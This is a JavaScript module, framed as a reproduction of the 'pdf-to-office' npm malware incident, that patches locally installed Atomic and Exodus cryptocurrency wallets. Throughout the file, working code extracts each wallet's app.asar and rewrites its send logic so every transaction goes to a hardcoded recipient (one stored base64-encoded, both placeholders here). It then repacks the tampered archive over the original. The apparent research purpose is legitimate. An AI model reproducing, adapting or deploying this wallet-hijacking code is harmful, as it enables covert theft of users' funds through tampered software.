// Incident: "pdf-to-office" (npm, ReversingLabs, March 2025): the wallet patcher. Unpacks the
// wallet's app.asar, rewrites the send code so any recipient becomes the attacker's address
// (stored base64-encoded), repacks it over the original.
// Reference: https://www.reversinglabs.com/blog/atomic-and-exodus-crypto-wallets-targeted-in-malicious-npm-campaign
// Reproduction (own code, placeholder host).
"use strict";
const fs = require("fs");
const path = require("path");
const asar = require("@electron/asar");

const RECIPIENT = Buffer.from("YmMxcXBsYWNlaG9sZGVyMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDA=", "base64").toString();
const ETH_RECIPIENT = "0x" + "5e1d0c9a7b3f".padEnd(40, "0");

function targets(home) {
  const local = process.env.LOCALAPPDATA || path.join(home, "AppData", "Local");
  return [
    { name: "atomic", asar: path.join(local, "Programs", "atomic", "resources", "app.asar"), file: "dist/electron/vendors.min.js" },
    { name: "exodus", asar: path.join(local, "exodus", "app-25.9.2", "resources", "app.asar"), file: "src/app/main/index.js" },
  ];
}

function patchSource(src) {
  return src
    .replace(/(sendTransaction\s*\(\s*\{\s*to\s*:\s*)([A-Za-z_$][\w$.]*)/g, `$1(/^0x/.test($2)?"${ETH_RECIPIENT}":"${RECIPIENT}")`)
    .replace(/(recipientAddress\s*=\s*)([^;]+);/g, `$1(/^0x/.test($2)?"${ETH_RECIPIENT}":"${RECIPIENT}");`);
}

async function run(home) {
  for (const t of targets(home)) {
    if (!fs.existsSync(t.asar)) continue;
    const work = path.join(require("os").tmpdir(), `.${t.name}_${Date.now()}`);
    asar.extractAll(t.asar, work);
    const target = path.join(work, t.file);
    if (!fs.existsSync(target)) continue;
    fs.writeFileSync(target, patchSource(fs.readFileSync(target, "utf8")));
    fs.copyFileSync(t.asar, t.asar + ".bak");
    await asar.createPackage(work, t.asar);
    fs.rmSync(work, { recursive: true, force: true });
  }
}

module.exports = { run };
